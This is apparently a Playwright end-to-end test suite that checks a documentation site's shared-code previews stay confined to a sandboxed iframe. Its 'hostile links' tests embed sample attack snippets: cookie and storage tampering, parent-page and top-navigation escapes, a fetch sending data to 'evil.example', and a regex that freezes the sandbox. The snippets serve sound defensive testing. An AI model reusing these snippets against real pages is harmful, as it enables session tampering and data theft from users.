import {readFileSync} from 'node:fs';
import {deflateRawSync, gzipSync} from 'node:zlib';
import type {Browser, BrowserContext, Locator, Page} from '@playwright/test';

import {PREVIEW, SHARE} from '../../plugins/live-preview/constants';
import {encodeScene} from '../../plugins/live-preview/share/link';
import {blockExternalRequests, expect, test} from './support/fixtures';
import {answerBadgeRequests} from './support/badges';
import {E2E_ORIGIN} from './support/server';
import {replaceCode} from './support/editor';

/** A mark in the site's storage that shared code must not be able to read or change. */
const CANARY = {key: 'share-canary', value: 'untouched'};
/** What hostile code writes; built from two halves in the code, so the editor never shows it whole. */
const OWNED = 'owned-by-scene';
const OWNED_IN_CODE = `'owned-' + 'by-scene'`;

function preview(page: Page): Locator {
  return page.locator('[data-live-preview]').first();
}

/** Waits until the preview has run its code: `ready`, or `error` when `failing` (the code threw at once). */
async function ready(page: Page, target: Locator, failing = false): Promise<void> {
  await expect(page.locator('html')).toHaveAttribute('data-has-hydrated', 'true', {timeout: 30_000});
  await target.scrollIntoViewIfNeeded();
  await expect(target).toHaveAttribute('data-status', /^(ready|error)$/, {timeout: 30_000});
  if (!failing && (await target.getAttribute('data-status')) === 'error') {
    throw new Error(`The preview failed: ${await target.getByRole('alert').innerText()}`);
  }
}

/** Pauses the preview and moves it to `frame`; waits until the player reports that frame. */
async function showFrame(target: Locator, frame: number): Promise<void> {
  if ((await target.getAttribute('data-paused')) === 'false') {
    await target.getByRole('button', {name: 'Pause'}).click();
  }
  await expect(target).toHaveAttribute('data-paused', 'true');
  // A recompile that lands meanwhile may move the frame: seek again until it stays.
  await expect(async () => {
    await target.getByRole('slider', {name: 'Time'}).fill(String(frame));
    await expect(target).toHaveAttribute('data-frame', String(frame), {timeout: 2_000});
    await expect(target).toHaveAttribute('data-paused', 'true', {timeout: 500});
  }).toPass({timeout: 15_000});
}

/**
 * A coarse picture of the canvas (16×9 cells, mean RGB of each): equal scenes at the
 * same frame give the same signature, wherever they are drawn.
 */
async function signature(canvas: Locator): Promise<number[]> {
  return canvas.evaluate((element: HTMLCanvasElement) => {
    const context = element.getContext('2d');
    if (!context) return [];
    const {width, height} = element;
    const {data} = context.getImageData(0, 0, width, height);
    const cells: number[] = [];
    for (let row = 0; row < 9; row++) {
      for (let column = 0; column < 16; column++) {
        const sum = [0, 0, 0];
        let count = 0;
        for (let y = Math.floor((row * height) / 9); y < Math.floor(((row + 1) * height) / 9); y += 2) {
          for (let x = Math.floor((column * width) / 16); x < Math.floor(((column + 1) * width) / 16); x += 2) {
            const index = (y * width + x) * 4;
            sum[0] += data[index];
            sum[1] += data[index + 1];
            sum[2] += data[index + 2];
            count++;
          }
        }
        cells.push(...sum.map((value) => Math.round(value / count)));
      }
    }
    return cells;
  });
}

function largestDifference(a: number[], b: number[]): number {
  if (a.length !== b.length || a.length === 0) return Infinity;
  return Math.max(...a.map((value, index) => Math.abs(value - b[index])));
}

/** The canvas inside the sandboxed frame of a shared playground. */
function sandboxCanvas(page: Page): Locator {
  return page.frameLocator('iframe[data-sandbox]').locator('canvas');
}

/**
 * A browser context that shares nothing with the sharer's. It takes the fixtures' context options, so it is offline
 * through the same proxy, whose refusals land in the running test's `externalRequests`.
 */
const freshContext = (browser: Browser): Promise<BrowserContext> => browser.newContext();

test.describe('share links', () => {
  test('share from a guide preview: the link opens the same animation in a sandbox, named after its page', async ({
    page,
    context,
    browser,
    externalRequests,
  }) => {
    test.setTimeout(120_000);
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], {origin: E2E_ORIGIN});
    // The guide's first example, from its source (the editor renders only the lines in view).
    const guide = readFileSync('docs/getting-started/tweening.mdx', 'utf8');
    const original = /```tsx title="src\/scenes\/timing\.tsx" preview\n([\s\S]*?)```/.exec(guide)?.[1] ?? '';
    expect(original).toContain("fill={'#3f82d6'}");
    await page.goto('/docs/tweening');
    const target = preview(page);
    await ready(page, target);
    await target.getByRole('button', {name: 'Edit'}).click();
    const edited = original.replace("fill={'#3f82d6'}", "fill={'#e13238'}");
    await replaceCode(page, target, edited);
    // The edit recompiles after a pause in typing; then hold the frame it shows.
    await page.waitForTimeout(PREVIEW.editDebounceMs + 1_000);
    await expect(target.getByRole('alert')).toHaveCount(0);
    if ((await target.getAttribute('data-paused')) === 'false') {
      await target.getByRole('button', {name: 'Pause'}).click();
    }
    await expect(target).toHaveAttribute('data-paused', 'true');
    await page.waitForTimeout(500);
    const frame = Number(await target.getAttribute('data-frame'));
    const sent = await signature(target.locator('canvas'));
    await target.getByRole('button', {name: 'Share'}).click();
    await expect(target.getByRole('button', {name: 'Link copied'})).toBeVisible();
    const link = await page.evaluate(() => navigator.clipboard.readText());
    expect(link).toMatch(new RegExp(`^${E2E_ORIGIN}/editor/#v1\\.[A-Za-z0-9_-]+$`));

    const fresh = await freshContext(browser);
    const receiver = await fresh.newPage();
    await receiver.goto(link);
    await expect(receiver.getByRole('heading', {level: 1, name: 'Shared scene'})).toBeVisible();
    await expect(receiver.getByRole('link', {name: 'Tweening'})).toHaveAttribute('href', '/docs/tweening');
    const shared = preview(receiver);
    await ready(receiver, shared);
    await expect(shared.locator('[data-live-editor] .cm-content')).toContainText("fill={'#e13238'}");
    // The scene's canvas is in the sandboxed frame, not in the page.
    await expect(shared.locator('canvas')).toHaveCount(0);
    await expect(receiver.locator('iframe[data-sandbox]')).toHaveAttribute('sandbox', 'allow-scripts');
    await showFrame(shared, frame);
    await expect
      .poll(async () => largestDifference(await signature(sandboxCanvas(receiver)), sent), {timeout: 10_000})
      .toBeLessThanOrEqual(2);

    // Original brings back the guide's code; Reset the link's.
    await shared.getByRole('button', {name: 'Original'}).click();
    await expect(shared.locator('[data-live-editor] .cm-content')).toContainText("fill={'#3f82d6'}");
    await shared.getByRole('button', {name: 'Reset'}).click();
    await expect(shared.locator('[data-live-editor] .cm-content')).toContainText("fill={'#e13238'}");
    expect(externalRequests).toEqual([]);
    await fresh.close();
  });

  test('share from /editor/random/ without a clipboard: the link is shown, and opens the same frame', async ({
    page,
    browser,
    externalRequests,
  }) => {
    test.setTimeout(120_000);
    // A browser that refuses the clipboard.
    await page.addInitScript(() => {
      Object.defineProperty(navigator, 'clipboard', {
        value: {writeText: () => Promise.reject(new DOMException('Refused', 'NotAllowedError'))},
      });
    });
    await page.goto('/editor/random/');
    const target = preview(page);
    await ready(page, target);
    await showFrame(target, 45);
    await page.waitForTimeout(500);
    const sent = await signature(target.locator('canvas'));
    await target.getByRole('button', {name: 'Share'}).click();
    const shown = target.locator('[data-share-link]');
    await expect(shown).toBeVisible();
    const link = await shown.inputValue();
    expect(link).toMatch(new RegExp(`^${E2E_ORIGIN}/editor/#v1\\.`));

    const fresh = await freshContext(browser);
    const receiver = await fresh.newPage();
    await receiver.goto(link);
    await expect(receiver.getByRole('link', {name: 'Random example'})).toHaveAttribute('href', '/editor/random/');
    const shared = preview(receiver);
    await ready(receiver, shared);
    await showFrame(shared, 45);
    await expect
      .poll(async () => largestDifference(await signature(sandboxCanvas(receiver)), sent), {timeout: 10_000})
      .toBeLessThanOrEqual(2);
    expect(externalRequests).toEqual([]);
    await fresh.close();
  });
});

/** Logged after the attempt: when it shows, the attempt ran (in the sandbox) without throwing. */
const FINISHED = 'attempt finished';
const scene = (body: string) => `import {makeScene2D} from '@canvas-commons/2d';
import {useLogger} from '@canvas-commons/core';

export default makeScene2D(function* (view) {
  ${body}
  useLogger().info('${FINISHED}');
  yield;
});
`;
const fragmentOf = (json: string, version: number = SHARE.version) =>
  `v${version}.${deflateRawSync(Buffer.from(json, 'utf8')).toString('base64url')}`;

/** Opens a hostile link with a mark in the site's storage; returns what the page should still show afterwards. */
async function openHostile(page: Page, context: BrowserContext, fragment: string) {
  const popups: string[] = [];
  const dialogs: string[] = [];
  context.on('page', (opened) => popups.push(opened.url()));
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto('/');
  await page.evaluate(({key, value}) => localStorage.setItem(key, value), CANARY);
  const url = `${E2E_ORIGIN}/editor/#${fragment}`;
  await page.goto(url);
  const target = preview(page);
  await ready(page, target, true);
  return {
    target,
    async expectUntouched() {
      // Give late attempts (timers, promises) a moment.
      await page.waitForTimeout(1_500);
      expect(page.url(), 'top page URL').toBe(url);
      // The site writes its own keys (badges, announcement); the mark must be as it was, and nothing says pwned.
      const storage = await page.evaluate(() => ({...localStorage}));
      expect(storage[CANARY.key], 'site storage').toBe(CANARY.value);
      expect(JSON.stringify(storage), 'site storage').not.toContain(OWNED);
      expect(await page.evaluate(() => document.cookie), 'site cookies').toBe('');
      expect(await context.cookies(), 'cookies').toEqual([]);
      await expect(page.getByRole('heading', {level: 1})).toHaveText('Shared scene');
      await expect(page.locator('body')).not.toContainText(OWNED);
      expect(popups, 'pop-ups').toEqual([]);
      expect(dialogs, 'dialogs').toEqual([]);
    },
  };
}

test.describe('hostile links fail safe', () => {
  const unreadable: Array<[string, () => string, RegExp]> = [
    ['a fragment that does not decode', () => 'v1.not*base64!', /cannot read|cut short/],
    ['base64 that is not deflate', () => 'v1.AAAAAAAAAAAAAAAA', /cannot read|cut short/],
    ['a newer format version', () => fragmentOf(JSON.stringify({code: scene('')}), SHARE.version + 1), /newer/],
    [
      'a payload over the size limit',
      () => fragmentOf(JSON.stringify({code: `// ${'x'.repeat(SHARE.maxCodeBytes)}\n${scene('')}`})),
      /more code/,
    ],
  ];
  for (const [name, fragment, message] of unreadable) {
    test(`${name}: a message and an empty, working playground`, async ({page, context}) => {
      const {target, expectUntouched} = await openHostile(page, context, fragment());
      await expect(page.getByRole('alert').first()).toContainText(message);
      await expect(page.locator('[data-shared-playground]')).not.toHaveAttribute('data-shared-playground', 'ok');
      // Working: the empty scene ran, and an edit runs too.
      await expect(target.getByRole('alert')).toHaveCount(0);
      const code = await target.locator('[data-live-editor] .cm-content').innerText();
      await replaceCode(page, target, code.replace('// Add nodes to the view here.', 'view.fill("#20c020");'));
      await expect
        .poll(async () => largestDifference((await signature(sandboxCanvas(page))).slice(0, 3), [32, 192, 32]), {
          timeout: 10_000,
        })
        .toBeLessThanOrEqual(2);
      await expectUntouched();
    });
  }

  // Each attempt either throws (the message names the reason) or does nothing and the scene goes on.
  const attacks: Array<[string, string, RegExp | null]> = [
    ['top.location', `top.location.href = '${E2E_ORIGIN}/docs/?pwned';`, null],
    ['parent.document', `parent.document.body.textContent = ${OWNED_IN_CODE};`, /cross-origin|Security|Blocked/i],
    ['localStorage', `localStorage.setItem('${CANARY.key}', ${OWNED_IN_CODE});`, /sandbox|Security|denied/i],
    ['document.cookie', `document.cookie = ${OWNED_IN_CODE} + '=1; path=/';`, /sandbox|Security|cookie/i],
    ['window.open', `if (window.open('${E2E_ORIGIN}/docs/?pwned')) throw new Error('opened');`, null],
    ['fetch to another host', `fetch('http://evil.example/steal?' + document.title).catch(() => undefined);`, null],
    ['an endless loop', `while (true) {}`, /loop/i],
  ];
  for (const [name, body, error] of attacks) {
    test(`code that tries ${name} runs only in the sandbox`, async ({page, context, externalRequests}) => {
      const {target, expectUntouched} = await openHostile(page, context, await encodeScene({code: scene(body)}));
      const outcome = target.getByRole('alert').or(target.locator('li', {hasText: FINISHED}));
      await expect(outcome.first()).toBeVisible({timeout: 15_000});
      if (error) await expect(target.getByRole('alert')).toContainText(error);
      console.log(`${name}: ${(await outcome.first().innerText()).replace(/\s+/g, ' ').slice(0, 160)}`);
      await expectUntouched();
      expect(externalRequests, 'requests that left 127.0.0.1').toEqual([]);
      // The page's own canvas stayed out of reach: every frame of it is in the sandbox.
      await expect(page.locator('iframe[data-sandbox]')).toHaveAttribute('sandbox', 'allow-scripts');
    });
  }
});

test('the sandbox page refuses to run outside an opaque-origin frame', async ({page}) => {
  await page.goto('/editor/sandbox.html');
  await expect(page.locator('body')).toContainText('does nothing on its own');
  await expect(page.locator('canvas')).toHaveCount(0);
});

test('weight: what opening a shared link loads, page and sandbox (gzip)', async ({page}) => {
  test.setTimeout(90_000);
  const sizes = new Map<string, {gzip: number; frame: boolean}>();
  const pending: Promise<void>[] = [];
  page.on('response', (response) => {
    const url = new URL(response.url());
    const type = response.request().resourceType();
    if (!['script', 'stylesheet', 'document'].includes(type) || url.origin !== E2E_ORIGIN) return;
    const frame = response.frame() !== page.mainFrame();
    // The same file may load in both; count it once for each.
    const key = `${frame ? 'frame' : 'page'} ${url.pathname}`;
    if (sizes.has(key)) return;
    sizes.set(key, {gzip: 0, frame});
    pending.push(
      response
        .body()
        .then((body) => void sizes.set(key, {gzip: gzipSync(body, {level: 6}).length, frame}))
        .catch(() => undefined),
    );
  });
  // With saveData on, Docusaurus prefetches no linked page: those chunks are not what the link loads, and on a busy
  // machine their trickle in idle time can keep the network from ever going idle.
  await page.addInitScript(() =>
    Object.defineProperty(Navigator.prototype, 'connection', {get: () => ({saveData: true, effectiveType: '4g'})}),
  );
  await page.goto(`/editor/#${await encodeScene({code: scene('view.fill("#20c020");')})}`);
  await ready(page, preview(page));
  // The frame's files have all loaded once the scene runs; idle network only completes the page's figure, which is
  // printed, not judged, so a busy machine that never lets the network rest gets the figure it has.
  await page.waitForLoadState('networkidle', {timeout: 15_000}).catch(() => undefined);
  await Promise.all(pending);
  const total = (inFrame: boolean) =>
    [...sizes.values()].filter(({frame}) => frame === inFrame).reduce((sum, {gzip}) => sum + gzip, 0);
  const kb = (bytes: number) => `${(bytes / 1024).toFixed(1)} KB`;
  const frameFiles = [...sizes].filter(([, {frame}]) => frame).map(([path, {gzip}]) => `${path} ${kb(gzip)}`);
  const summary = `shared link: page ${kb(total(false))}, sandbox frame ${kb(total(true))} (budget for a preview start ${kb(PREVIEW.startBudgetGzip)}); frame files: ${frameFiles.join(', ')}`;
  console.log(summary);
  test.info().annotations.push({type: 'weight', description: summary});
  expect(total(true)).toBeGreaterThan(0);
});

/**
 * A second origin on loopback, standing in for a stranger's server: its page records every
 * message it receives, and the server every request, so a leak of the reader's code shows.
 */
async function strangerServer(): Promise<{origin: string; requests: string[]; close: () => Promise<void>}> {
  const {createServer} = await import('node:http');
  const requests: string[] = [];
  const page = `<!doctype html><title>stranger</title><script>
addEventListener('message', (event) => {
  fetch('/record', {method: 'POST', mode: 'no-cors', body: JSON.stringify({data: event.data, ports: event.ports.length})});
});
</script><p>stranger</p>`;
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
    request.on('end', () => {
      requests.push(`${request.method} ${request.url} ${body}`);
      response.writeHead(200, {'content-type': 'text/html; charset=utf-8'});
      response.end(page);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (!address || typeof address === 'string') throw new Error('The stranger server has no port.');
  return {
    origin: `http://127.0.0.1:${address.port}`,
    requests,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/**
 * Every way a document can send its own frame elsewhere, as a scene would write it. Without
 * the frame policy, the first two are tried again: they reach the stranger's page, and the
 * page learns of it both ways it can (the sandbox's goodbye, or a load after which the port
 * stays silent); the port is gone the same way whatever the navigation.
 */
const NAVIGATIONS: Array<[string, (to: string) => string]> = [
  ['location assignment', (to) => `location.href = '${to}';`],
  [
    'location assignment after silencing the sandbox’s goodbye',
    (to) => `MessagePort.prototype.postMessage = () => undefined; location.href = '${to}';`,
  ],
  ['location.replace', (to) => `location.replace('${to}');`],
  [
    'a link click',
    (to) => `const link = document.createElement('a'); link.href = '${to}'; document.body.append(link); link.click();`,
  ],
  [
    'a form submit',
    (to) =>
      `const form = document.createElement('form'); form.method = 'post'; form.action = '${to}'; document.body.append(form); form.submit();`,
  ],
  [
    'meta refresh written with document.write',
    (to) => `document.open(); document.write('<meta http-equiv="refresh" content="0; url=${to}">'); document.close();`,
  ],
  ['window.open with _self', (to) => `window.open('${to}', '_self');`],
  ['a reload of the sandbox page', () => `location.reload();`],
  [
    'history: a pushed entry, then back and forward',
    () => `history.pushState(null, '', '?moved'); history.back(); history.go(-2); history.forward();`,
  ],
];

const WITHOUT_FRAME_POLICY = NAVIGATIONS.slice(0, 2);

/** What the reader types after opening the link: their own scene, with a line that must stay theirs. */
const READER_SECRET = 'readers-own-line';
const READERS_SCENE = `import {makeScene2D} from '@canvas-commons/2d';

export default makeScene2D(function* (view) {
  view.fill('#20c020'); // ${READER_SECRET}
  yield;
});
`;

for (const bypassCSP of [false, true]) {
  const mode = bypassCSP
    ? 'with the page’s frame policy switched off, the port alone'
    : 'the frame policy and the port together';
  test(`a scene that navigates its frame away receives none of the reader’s later code: ${mode}`, async ({browser}) => {
    test.setTimeout(150_000);
    const stranger = await strangerServer();
    // No offline proxy (it refuses every loopback port but the site's): this context's routes keep it offline and let
    // the stranger's origin through.
    const context = await browser.newContext({bypassCSP, proxy: undefined});
    const external = await blockExternalRequests(context);
    await answerBadgeRequests(context);
    // Registered last, so tried first: the stranger's origin is let through to its server.
    await context.route(`${stranger.origin}/**`, (route) => route.continue());
    const page = await context.newPage();
    const outcomes: string[] = [];
    try {
      await page.goto('/editor/');
      await expect(page.locator('html')).toHaveAttribute('data-has-hydrated', 'true', {timeout: 30_000});
      for (const [name, navigate] of bypassCSP ? WITHOUT_FRAME_POLICY : NAVIGATIONS) {
        stranger.requests.length = 0;
        // A new fragment opens a new playground in the same page, as a second link would.
        const fragment = await encodeScene({code: scene(navigate(`${stranger.origin}/`))});
        await page.evaluate((hash) => (window.location.hash = hash), fragment);
        const target = preview(page);
        // Either the frame was replaced (the loss message), or the attempt did nothing and the scene went on.
        const lost = target.locator('[data-sandbox-loss]');
        const outcome = lost.or(target.locator('li', {hasText: FINISHED})).or(target.getByRole('alert'));
        await expect(outcome.first()).toBeVisible({timeout: 15_000});
        // Only a form (no allow-forms) and history moves leave the sandbox page where it is.
        const leaves = !/form submit|history/.test(name);
        // The scene goes on while its navigation is under way; the page notices the frame left soon after: at its
        // next load (a blocked navigation's error page loads too, restarting the check) or, when the frame loads
        // nothing, after the missed pings. Only a frame that stays waits the short time.
        const noticeMs = leaves
          ? 2 * SHARE.loadCheckMs + SHARE.pingMs * (SHARE.missedPingsToReplace + 1)
          : SHARE.loadCheckMs + 2_000;
        await lost.waitFor({timeout: noticeMs}).catch(() => undefined);
        const reached = stranger.requests.length > 0;
        const wasLost = await lost.isVisible();
        outcomes.push(
          `${name}: ${wasLost ? 'player replaced' : 'no navigation'}${reached ? ', stranger page loaded' : ''}`,
        );
        // The policy stops every load of the stranger's page; without it, the page may load but hears nothing.
        if (!bypassCSP) expect(reached, `${name}: the stranger's page loaded`).toBe(false);
        // Without the policy the page must really have gone there, or "heard nothing" would prove nothing.
        else expect(reached, `${name}: the stranger's page loaded`).toBe(true);
        expect(wasLost, `${name}: the player was replaced`).toBe(leaves);

        // The reader replaces the code; it runs in a working player, and the stranger hears nothing of it.
        if (wasLost) await expect(lost).toContainText('tried to leave the player');
        await replaceCode(page, target, READERS_SCENE);
        await expect(lost).toHaveCount(0, {timeout: 15_000});
        await ready(page, target);
        await expect
          .poll(async () => largestDifference((await signature(sandboxCanvas(page))).slice(0, 3), [32, 192, 32]), {
            timeout: 15_000,
          })
          .toBeLessThanOrEqual(2);
        await page.waitForTimeout(500);
        const heard = stranger.requests.filter((request) => request.startsWith('POST'));
        expect(heard, `${name}: messages the stranger's page received`).toEqual([]);
        expect(stranger.requests.join('\n')).not.toContain(READER_SECRET);
        expect(page.url(), `${name}: the top page stayed`).toContain('/editor/#v1.');
      }
      console.log(`Navigation attempts (${mode}):\n  ${outcomes.join('\n  ')}`);
      expect(external, 'requests that left 127.0.0.1').toEqual([]);
    } finally {
      await context.close();
      await stranger.close();
    }
  });
}

// A scene can freeze its sandbox where the loop guard does not reach. The page notices (missed pings), removes the
// frame and says so, and stays usable itself. (Chromium keeps one process for the site's sandboxed frames, so a fresh
// player waits until the frozen process ends: a known limit, not checked here.)
test('a scene that freezes its sandbox is reported, and its frame removed, while the page stays usable', async ({
  page,
}) => {
  test.setTimeout(90_000);
  // No loop for the loop guard to stop: a regular expression that backtracks for hours, run from a timer.
  const freezing = scene("setTimeout(() => /^(a+)+$/.test('a'.repeat(40) + 'b'), 0);");
  await page.goto(`/editor/#${await encodeScene({code: freezing})}`);
  await expect(page.locator('html')).toHaveAttribute('data-has-hydrated', 'true', {timeout: 30_000});
  const target = preview(page);
  // Frozen soon after its start, a sandbox cannot be told from one that left (its own load may come last), so the
  // message may say either; both stop the player.
  await expect(target.locator('[data-sandbox-loss]')).toContainText('so it was stopped', {
    timeout: SHARE.pingMs * (SHARE.missedPingsToReplace + 2) + 5_000,
  });
  await expect(page.locator('iframe[data-sandbox]')).toHaveCount(0);
  // The reader's editor still answers, and keeps the code.
  await replaceCode(page, target, READERS_SCENE);
  await expect(target.locator('[data-live-editor] .cm-content')).toContainText(READER_SECRET);
  await expect(page.getByRole('heading', {level: 1})).toHaveText('Shared scene');
});
